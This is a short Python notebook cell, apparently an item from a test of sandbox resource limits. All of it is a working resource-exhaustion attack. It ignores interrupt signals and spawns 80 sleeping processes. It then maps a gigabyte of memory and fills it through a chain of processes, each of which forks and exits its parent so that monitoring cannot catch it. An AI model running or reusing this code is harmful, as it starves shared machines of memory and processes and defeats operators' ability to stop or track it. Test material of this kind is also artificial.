"""Hands memory on from fork to fork, each of which ends before anybody who counts comes to it."""
# part: 3
# earns: 0
# %%
# MODEL
# %%
import ctypes
import mmap
import os
import signal
import time

for number in (signal.SIGCHLD, signal.SIGINT):  # an interrupt would end the cell, and the notebook would go on
    signal.signal(number, signal.SIG_IGN)
for _ in range(80):
    if os.fork() == 0:
        time.sleep(170)
        os._exit(0)
size, step = 2**30, 20 * 2**20
taken = mmap.mmap(-1, size, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
taken.madvise(mmap.MADV_HUGEPAGE)
place = ctypes.addressof(ctypes.c_char.from_buffer(taken))
for _ in range(4):
    if os.fork() == 0:
        for n in range(1200):
            if (n + 1) * step <= size:
                ctypes.memset(place + n * step, 1, step)
            time.sleep(0.01)
            if os.fork() > 0:
                os._exit(0)
        os._exit(0)
time.sleep(170)
